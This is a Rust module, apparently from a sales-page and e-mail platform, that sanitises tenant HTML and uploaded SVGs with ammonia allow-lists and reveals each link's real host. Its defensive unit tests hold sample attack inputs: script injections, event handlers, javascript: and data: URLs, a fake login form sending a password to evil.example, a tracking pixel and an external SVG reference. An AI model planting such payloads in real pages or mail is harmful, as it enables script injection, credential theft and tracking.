//! HTML an owner writes (the robot sales pages) and SVG logos they upload,
//! reduced to markup that cannot run anything: no script or style elements,
//! no event-handler attributes, no `javascript:` or `data:` URLs. The public
//! page adds a strict Content-Security-Policy on top.

use std::collections::HashSet;

/// Sales-page HTML: the usual text, image, link and table markup, with
/// `class` kept for styling.
pub fn sales_page(html: &str) -> String {
    ammonia::Builder::default()
        .add_generic_attributes(["class"])
        .url_schemes(HashSet::from(["http", "https", "mailto", "tel"]))
        .link_rel(Some("noopener noreferrer nofollow"))
        .clean(html)
        .to_string()
}

/// Tags a tenant's e-mail may use when it goes out under the platform's
/// address: text, lists, tables and links. No images (a remote image is a
/// tracking pixel, and a picture of a login form is still a phish), no forms,
/// inputs, frames, objects, media, styles sheets or scripts.
const EMAIL_TAGS: &[&str] = &[
    "a",
    "b",
    "blockquote",
    "br",
    "caption",
    "center",
    "code",
    "div",
    "em",
    "font",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "li",
    "ol",
    "p",
    "pre",
    "s",
    "small",
    "span",
    "strong",
    "sub",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "tr",
    "u",
    "ul",
];
/// Elements dropped with everything inside them (what they hold is code or
/// a control, not text to read).
const EMAIL_DROPPED_WITH_CONTENT: &[&str] = &[
    "script", "style", "title", "textarea", "select", "option", "button", "iframe", "object", "embed", "noscript",
    "template", "svg", "math", "head",
];
/// CSS a message may keep: how text looks and where it sits, nothing that
/// moves it over the platform's frame or loads anything.
const EMAIL_STYLE_PROPERTIES: &[&str] = &[
    "color",
    "background-color",
    "font-size",
    "font-weight",
    "font-style",
    "font-family",
    "text-align",
    "text-decoration",
    "letter-spacing",
    "line-height",
    "padding",
    "padding-top",
    "padding-bottom",
    "padding-left",
    "padding-right",
    "margin",
    "margin-top",
    "margin-bottom",
    "border",
    "border-radius",
    "width",
    "max-width",
    "vertical-align",
];

/// A tenant's e-mail HTML reduced for the platform's frame (decision 0018):
/// the allow-list above, absolute `http`, `https` and `mailto` links only,
/// and every web link followed by its real host in brackets, so "Entrar no
/// banco" pointing elsewhere reads "Entrar no banco (evil.example)".
pub fn email(html: &str) -> String {
    let cleaned = ammonia::Builder::default()
        .tags(EMAIL_TAGS.iter().copied().collect())
        .clean_content_tags(EMAIL_DROPPED_WITH_CONTENT.iter().copied().collect())
        .add_generic_attributes(["style", "align"])
        .add_tag_attributes("td", ["colspan", "rowspan", "width"])
        .add_tag_attributes("th", ["colspan", "rowspan", "width"])
        .add_tag_attributes("table", ["width", "cellpadding", "cellspacing"])
        .rm_generic_attributes(["title"])
        .filter_style_properties(EMAIL_STYLE_PROPERTIES.iter().copied().collect())
        .url_schemes(HashSet::from(["http", "https", "mailto"]))
        .url_relative(ammonia::UrlRelative::Deny)
        .link_rel(Some("noopener noreferrer nofollow"))
        // No attribute value may hold an angle bracket or a CSS url(): the
        // link pass below reads tags from the output, and CSS must load nothing.
        .attribute_filter(|_, _, value| {
            let lower = value.to_ascii_lowercase();
            (!value.contains(['<', '>']) && !lower.contains("url(") && !lower.contains("expression("))
                .then(|| value.into())
        })
        .clean(html)
        .to_string();
    show_link_hosts(&cleaned)
}

/// Puts ` (host)` after every `<a href="http(s)://host/...">...</a>` of
/// sanitised output (there tags are well-formed, links do not nest and no
/// attribute value holds `<`).
fn show_link_hosts(html: &str) -> String {
    let mut out = String::with_capacity(html.len() + 64);
    let mut rest = html;
    while let Some(start) = rest.find("<a ") {
        let Some(tag_end) = rest[start..].find('>').map(|e| start + e + 1) else { break };
        let host = href_of(&rest[start..tag_end]).and_then(|href| {
            let url = ammonia::Url::parse(&href.replace("&amp;", "&")).ok()?;
            matches!(url.scheme(), "http" | "https").then(|| url.host_str().map(str::to_string)).flatten()
        });
        let Some(close) = rest[tag_end..].find("</a>").map(|c| tag_end + c + 4) else { break };
        out.push_str(&rest[..close]);
        if let Some(host) = host {
            out.push_str(" <span style=\"color:#52525b\">(");
            out.push_str(&escape_text(&host));
            out.push_str(")</span>");
        }
        rest = &rest[close..];
    }
    out.push_str(rest);
    out
}

fn href_of(tag: &str) -> Option<&str> {
    let at = tag.find(" href=\"")? + 7;
    let end = tag[at..].find('"')?;
    Some(&tag[at..at + end])
}

fn escape_text(text: &str) -> String {
    text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;")
}

const SVG_TAGS: &[&str] = &[
    "svg",
    "g",
    "path",
    "rect",
    "circle",
    "ellipse",
    "line",
    "polyline",
    "polygon",
    "text",
    "tspan",
    "defs",
    "lineargradient",
    "radialgradient",
    "stop",
    "clippath",
    "mask",
    "title",
    "desc",
    "symbol",
    // The parser may hand SVG names over camel-cased.
    "linearGradient",
    "radialGradient",
    "clipPath",
];
const SVG_ATTRIBUTES: &[&str] = &[
    "viewbox",
    "width",
    "height",
    "x",
    "y",
    "x1",
    "y1",
    "x2",
    "y2",
    "cx",
    "cy",
    "r",
    "rx",
    "ry",
    "d",
    "points",
    "fill",
    "fill-opacity",
    "fill-rule",
    "stroke",
    "stroke-width",
    "stroke-linecap",
    "stroke-linejoin",
    "stroke-opacity",
    "opacity",
    "transform",
    "offset",
    "stop-color",
    "stop-opacity",
    "gradientunits",
    "gradienttransform",
    "clip-path",
    "clip-rule",
    "mask",
    "font-family",
    "font-size",
    "font-weight",
    "text-anchor",
    "id",
    "xmlns",
    "preserveaspectratio",
    "version",
    "viewBox",
    "preserveAspectRatio",
    "gradientUnits",
    "gradientTransform",
];

/// An uploaded SVG with only drawing elements and presentation attributes
/// left (no script, `foreignObject`, `use` of external files, event handlers
/// or links). None when nothing drawable is left.
pub fn svg(text: &str) -> Option<String> {
    let cleaned =
        ammonia::Builder::empty().add_tags(SVG_TAGS).add_generic_attributes(SVG_ATTRIBUTES).clean(text).to_string();
    // The HTML parser lowercases SVG names; browsers need them camel-cased.
    let cleaned = cleaned
        .replace("viewbox=", "viewBox=")
        .replace("preserveaspectratio=", "preserveAspectRatio=")
        .replace("gradientunits=", "gradientUnits=")
        .replace("gradienttransform=", "gradientTransform=")
        .replace("<lineargradient", "<linearGradient")
        .replace("</lineargradient>", "</linearGradient>")
        .replace("<radialgradient", "<radialGradient")
        .replace("</radialgradient>", "</radialGradient>")
        .replace("<clippath", "<clipPath")
        .replace("</clippath>", "</clipPath>");
    let svg = cleaned.trim();
    if !svg.starts_with("<svg") {
        return None;
    }
    // Served as a file it must declare its namespace to be drawn at all.
    Some(if svg.contains("xmlns=") {
        svg.to_string()
    } else {
        svg.replacen("<svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"", 1)
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sales_pages_lose_scripts_handlers_and_javascript_urls() {
        let dirty = r#"<h1 class="t">Robô</h1><script>alert(1)</script><img src="x.png" onerror="alert(2)">
            <a href="javascript:alert(3)">clique</a><a href="https://ok.example">ok</a><p style="x" onclick="y">t</p>"#;
        let clean = sales_page(dirty);
        for bad in ["<script", "alert(", "onerror", "javascript:", "onclick"] {
            assert!(!clean.contains(bad), "{bad} left in {clean}");
        }
        assert!(clean.contains(r#"<h1 class="t">Robô</h1>"#), "{clean}");
        assert!(clean.contains(r#"href="https://ok.example""#));
        assert!(clean.contains(r#"<img src="x.png">"#), "{clean}");
    }

    #[test]
    fn svgs_keep_their_drawing_and_lose_everything_active() {
        let dirty = r##"<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" onload="alert(1)">
            <script>alert(2)</script><foreignObject><iframe src="javascript:alert(3)"></iframe></foreignObject>
            <a href="javascript:alert(4)"><circle cx="5" cy="5" r="4" fill="#3b82f6"/></a>
            <use href="https://evil.example/x.svg#a"/></svg>"##;
        let clean = svg(dirty).unwrap();
        for bad in ["script", "alert", "onload", "foreignObject", "iframe", "javascript", "href", "<use"] {
            assert!(!clean.contains(bad), "{bad} left in {clean}");
        }
        assert!(clean.starts_with("<svg"), "{clean}");
        assert!(clean.contains("viewBox=\"0 0 10 10\""), "{clean}");
        assert!(clean.contains("<circle"), "{clean}");
        assert!(svg("<p>não é svg</p>").is_none());
    }

    #[test]
    fn framed_mail_loses_scripts_forms_frames_images_handlers_and_bad_links() {
        let dirty = r#"<html><head><title>x</title><style>body{display:none}</style></head><body>
            <h1 onclick="steal()">Oi</h1><script>alert(1)</script>
            <form action="https://evil.example/steal"><input type="password" name="senha"><button>Entrar</button></form>
            <iframe src="https://evil.example"></iframe><object data="x.swf"></object>
            <a href="javascript:alert(2)">clique</a><a href="data:text/html,<script>alert(3)</script>">dados</a>
            <a href="https://evil.example/login?a=1&b=2">https://banco.com.br</a>
            <img src="https://tracker.example/pixel.gif" width="1" height="1">
            <p style="position:absolute;top:0;color:red;background:url(https://t.example/x)">texto</p>
            <a href="/relativo">relativo</a><a href="mailto:oi@loja.com">oi@loja.com</a></body></html>"#;
        let clean = email(dirty);
        for bad in [
            "<script",
            "alert(",
            "<form",
            "<input",
            "password",
            "<button",
            "<iframe",
            "<object",
            "onclick",
            "javascript:",
            "data:",
            "<img",
            "tracker.example",
            "position",
            "url(",
            "/relativo",
            "<style",
            "display:none",
        ] {
            assert!(!clean.contains(bad), "{bad} left in {clean}");
        }
        assert!(clean.contains("<h1>Oi</h1>"), "{clean}");
        // A style that tries to load anything is dropped whole; others keep only the allowed properties.
        assert!(clean.contains("<p>texto</p>"), "{clean}");
        let styled = email(r#"<p style="position:absolute;top:0;color:red">x</p>"#);
        assert_eq!(styled, r#"<p style="color:red">x</p>"#);
        assert!(
            clean.contains(r#">https://banco.com.br</a> <span style="color:#52525b">(evil.example)</span>"#),
            "the real host follows the link: {clean}"
        );
        assert!(clean.contains("mailto:oi@loja.com"), "{clean}");
    }
}
